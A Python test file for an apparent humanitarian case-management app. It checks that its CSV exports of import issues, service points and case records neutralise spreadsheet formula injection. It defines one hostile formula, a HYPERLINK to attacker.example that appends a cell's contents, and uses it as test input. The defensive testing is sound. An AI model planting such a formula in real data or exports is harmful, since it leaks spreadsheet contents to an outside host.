"""No export hands a spreadsheet a formula typed by someone else (issue 10, item 9)."""

from __future__ import annotations

import base64
import csv
import io
from collections.abc import Callable
from pathlib import Path

from fastapi.testclient import TestClient

from itinera.bootstrap import build_app
from itinera.config import Settings
from itinera.domain.access import Actor, Role
from itinera.engines.crypto import generate_key
from itinera.storage.database import Database
from itinera.web.deps import current_actor

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(text: str) -> None:
    cells = _cells(text)
    assert "'" + FORMULA in cells, cells
    assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in cells)


def test_the_issues_csv_of_an_import_neutralises_cell_values(
    client: TestClient, tmp_path: Path
) -> None:
    data = tmp_path / "hostile.csv"
    quoted = FORMULA.replace('"', '""')
    data.write_text(
        "Date,Route,Dead\n#date,#route,#affected+dead\n"
        f'2023-05,Central Mediterranean Route,"{quoted}"\n2023-05,Western Balkan Route,-4\n'
        "2023-05,Eastern Mediterranean Route,3\n",  # one figure: a file with none is refused
        "utf-8",
    )
    with data.open("rb") as handle:
        answer = client.post(
            "/api/imports?wait=true",
            files={"file": ("hostile.csv", handle, "text/csv")},
            data={"reader": "hxl", "source": "formula-test"},
        )
    assert answer.status_code == 200, answer.text
    issues = client.get(f"/api/imports/{answer.json()['batch_id']}/issues.csv")
    _assert_neutralised(issues.text)


def test_the_public_service_export_neutralises_names(anonymous_client: TestClient) -> None:
    overrides = anonymous_client.app.dependency_overrides  # type: ignore[attr-defined]
    overrides[current_actor] = lambda: Actor("test-coordinator", frozenset({Role.COORDINATOR}))
    point = {
        "name": FORMULA,
        "kind": "multi-purpose-hub",
        "lat": 16.97,
        "lon": 7.99,
        "country": "NER",
        "locality": "-12.5",  # text that is a number stays as it is
        "offers": [{"service_type": "shelter"}],
    }
    created = anonymous_client.post("/api/services/points", json=point)
    assert created.status_code == 201, created.text
    overrides.clear()
    exported = anonymous_client.get("/api/services/export")
    assert exported.status_code == 200
    _assert_neutralised(exported.text)
    assert "-12.5" in _cells(exported.text)


def test_the_case_export_neutralises_free_text(
    sqlite_db: Database,
    tmp_path: Path,
    make_user: Callable[..., tuple[str, str]],
    login: Callable[..., dict[str, str]],
) -> None:
    key = base64.b64encode(generate_key()).decode()
    settings = Settings(
        database_url=sqlite_db.url,
        environment="test",
        field_key=key,
        key_file=tmp_path / "unused.key",
    )
    with TestClient(build_app(settings, database=sqlite_db)) as client:
        worker = login(client, *make_user(sqlite_db, "coordinator"))
        client.cookies.clear()
        case = {
            "given_name": "Test",
            "family_name": "Person",
            "sex": "female",
            "date_of_birth": "2001-01-01",
            "nationality": "GIN",
            "arrival_place": FORMULA,
            "arrival_date": "2026-11-01",
            "consent": {"purposes": ["registration"]},
        }
        created = client.post("/api/cases", json=case, headers=worker)
        assert created.status_code == 201, created.text
        exported = client.get("/api/cases/export", headers=worker)
        assert exported.status_code == 200, exported.text
        _assert_neutralised(exported.text)
